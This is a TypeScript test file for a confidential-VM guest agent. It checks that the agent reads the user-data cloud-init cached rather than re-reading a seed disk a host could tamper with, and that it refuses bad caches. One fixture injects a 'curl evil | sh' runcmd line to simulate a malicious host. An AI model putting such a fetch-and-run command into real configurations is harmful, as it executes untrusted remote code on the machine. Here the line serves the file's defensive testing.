// The enclaivelet's NoCloud/EC2/GCE user-data: the bytes cloud-init cached in its local stage and executes later,
// never a second read of the seed disk or the metadata service (a host or cloud operator could answer the second
// read differently). Checked against the real cloud-init 22.4: its local stage (datasource + stages.Init.instancify,
// which pickles obj.pkl) writes the cache, the agent reads it, and cloud-init's network stage (restore "trust" +
// update) writes the user-data.txt the user stages execute — the agent's bytes must be exactly those.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createHash } from "node:crypto";
import { mkdtemp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { measuredConfig, readUserData, UserDataReadError } from "../../../runtime/guest/userdata.js";
import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
import { cloudInitPy, hasCloudInitStages, localStage, networkStage } from "../../support/cloud-init-cache.js";

const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");

const REGISTERED = renderUserData({
  platform: "qemu",
  tee: "snp",
  runtimeUrl: "https://runtime.example:8200",
  runtimeCaSha256: "ab".repeat(32),
  workloadId: "web",
  agent: { kind: "image" },
}).text;
const INJECTED = `${REGISTERED}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;

describe.skipIf(!hasCloudInitStages)("the agent reads cloud-init's cached user-data (real cloud-init 22.4)", () => {
  let dir: string;
  let dirs: { cloud: string; run: string };
  let seed: string;
  const deps = () => ({
    cloudInit: {
      objPkl: path.join(dirs.cloud, "instance", "obj.pkl"),
      runInstanceId: path.join(dirs.run, ".instance-id"),
      python: cloudInitPy,
    },
  });
  const userDataTxt = () => readFile(path.join(dirs.cloud, "instance", "user-data.txt"));
  const seedWith = async (userData: string, iid = "iid-web-1") => {
    await writeFile(path.join(seed, "meta-data"), `instance-id: ${iid}\n`);
    await writeFile(path.join(seed, "user-data"), userData);
  };

  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), "bk-ci-cache-"));
    dirs = { cloud: path.join(dir, "var-lib-cloud"), run: path.join(dir, "run-cloud-init") };
    seed = path.join(dir, "seed");
    await mkdir(seed);
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  it("NoCloud: the agent's bytes are the user-data.txt cloud-init's user stages execute", async () => {
    await seedWith(REGISTERED);
    expect(localStage(dirs, { kind: "nocloud", seed })).toBe("iid-web-1");
    const bytes = await readUserData("nocloud", deps());
    expect(bytes.toString("utf8")).toBe(REGISTERED);
    expect(measuredConfig(bytes).sha256).toBe(sha256(REGISTERED));
    networkStage(dirs);
    expect((await userDataTxt()).equals(bytes)).toBe(true);
    // a local-dsmode datasource would have written user-data.txt already: the same bytes are accepted
    expect((await readUserData("nocloud", deps())).equals(bytes)).toBe(true);
  });

  it("a host that rewrites the seed after cloud-init read it: the agent binds what cloud-init cached and runs", async () => {
    // cloud-init-local read the injected user-data; the host then puts the registered one back on the seed for a
    // second read. An agent re-reading the seed would bind the registered hash while cloud-init runs the injection.
    await seedWith(INJECTED);
    localStage(dirs, { kind: "nocloud", seed });
    await seedWith(REGISTERED);
    const bytes = await readUserData("nocloud", deps());
    expect(sha256(bytes)).toBe(sha256(INJECTED));
    expect(sha256(bytes)).not.toBe(sha256(await readFile(path.join(seed, "user-data"))));
    networkStage(dirs);
    expect(sha256(await userDataTxt())).toBe(sha256(bytes)); // what runs is what is bound (and Nitride refuses it)
  });

  it.each(["ec2", "gce"] as const)("%s: the agent reads the local datasource's cached user-data", async (kind) => {
    expect(localStage(dirs, { kind, iid: "i-0abc", userData: REGISTERED })).toBe("i-0abc");
    const bytes = await readUserData(kind, deps());
    expect(bytes.toString("utf8")).toBe(REGISTERED);
    networkStage(dirs);
    expect((await userDataTxt()).equals(bytes)).toBe(true);
  });

  it("refuses without the cache (cloud-init-local did not cache a datasource): nothing to provision", async () => {
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/\.instance-id: ENOENT/);
    await mkdir(dirs.run, { recursive: true });
    await writeFile(path.join(dirs.run, ".instance-id"), "iid-web-1\n");
    const e = await readUserData("nocloud", deps()).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(UserDataReadError);
    expect((e as Error).message).toMatch(/obj\.pkl: missing/);
  });

  it("refuses a cache of another instance than this boot's", async () => {
    await seedWith(REGISTERED, "iid-old");
    localStage(dirs, { kind: "nocloud", seed });
    await writeFile(path.join(dirs.run, ".instance-id"), "iid-web-2\n");
    await expect(readUserData("nocloud", deps())).rejects.toThrow(
      /instance-id "iid-old" is not this boot's "iid-web-2"/,
    );
  });

  it("refuses a cache of another datasource than the image's source", async () => {
    await seedWith(REGISTERED);
    localStage(dirs, { kind: "nocloud", seed });
    await expect(readUserData("ec2", deps())).rejects.toThrow(
      /datasource cloudinit\.sources\.DataSourceNoCloud\.DataSourceNoCloud, expected cloudinit\.sources\.DataSourceEc2\.DataSourceEc2Local/,
    );
    await rm(dirs.cloud, { recursive: true });
    await rm(dirs.run, { recursive: true });
    localStage(dirs, { kind: "gce", iid: "iid-web-1", userData: REGISTERED });
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/DataSourceGCELocal, expected/);
    await expect(readUserData("ec2", deps())).rejects.toThrow(/DataSourceGCELocal, expected/);
  });

  it("refuses a cache cloud-init cannot load, and a user-data.txt that differs from the cache", async () => {
    await seedWith(REGISTERED);
    localStage(dirs, { kind: "nocloud", seed });
    const pkl = path.join(dirs.cloud, "instance", "obj.pkl");
    const good = await readFile(pkl);
    await writeFile(path.join(dirs.cloud, "instance", "user-data.txt"), INJECTED);
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/user-data\.txt differs from the user-data in/);
    await rm(path.join(dirs.cloud, "instance", "user-data.txt"));
    await writeFile(pkl, good.subarray(0, good.length - 7));
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/obj\.pkl: cloud-init cannot load it/);
  });
});
